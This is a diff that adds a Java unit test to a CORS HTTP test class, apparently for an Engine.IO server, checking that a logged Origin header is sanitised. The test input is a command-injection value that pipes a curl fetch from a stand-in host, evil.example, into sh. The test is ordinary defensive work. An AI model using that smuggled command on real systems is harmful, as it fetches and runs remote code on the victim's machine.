@@ -205,6 +205,16 @@ class CorsHttpTest {
     }
 
     @Test
+    void aLoggedOriginCannotBeACommand() {
+        try (LogCapture log = LogCapture.open();
+                EngineIoFixture server = EngineIoFixture.start()) {
+            server.http().get(EngineIoFixture.POLLING, "Origin: https://x;curl${IFS}evil.example|sh;#");
+            String message = log.messages().get(0);
+            assertTrue(message.contains("--cors-origin https://x?curl??IFS?evil.example?sh??"), message);
+        }
+    }
+
+    @Test
     void theNumberOfLoggedOriginsIsBounded() {
         try (LogCapture log = LogCapture.open();
                 EngineIoFixture server = EngineIoFixture.start();
